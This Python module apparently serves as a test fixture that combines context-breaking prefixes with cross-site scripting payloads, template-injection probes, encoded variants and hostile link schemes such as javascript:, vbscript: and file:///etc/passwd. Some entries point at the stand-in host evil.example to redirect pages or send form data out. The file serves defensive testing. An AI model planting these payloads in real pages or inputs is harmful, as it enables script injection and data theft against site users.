"""What a channel may write to break a page (fault matrix S10): the known ways out of a text, and what follows them."""

from __future__ import annotations

from itertools import product

BREAKS = (
    "",
    '"',
    "'",
    "`",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</template>",
    "</svg>",
    "\\",
    "&quot;",
)

WORK = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'http://evil.example/x'</style>",
    "<link rel=stylesheet href=http://evil.example/x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example><button>x</button></form>",
    "{{ 7*7 }}{% for x in [1] %}alert(1){% endfor %}",
    "${alert(1)}",
    " onmouseover=alert(1) ",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "\u202egnp.exe\u202c",
    "\x00<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)

CORPUS = tuple(f"{breaking}{working}" for breaking, working in product(BREAKS, WORK))

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "tg://resolve?domain=demo",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:evil",
    "https://",
    'https://demo.example/"onmouseover="alert(1)',
)
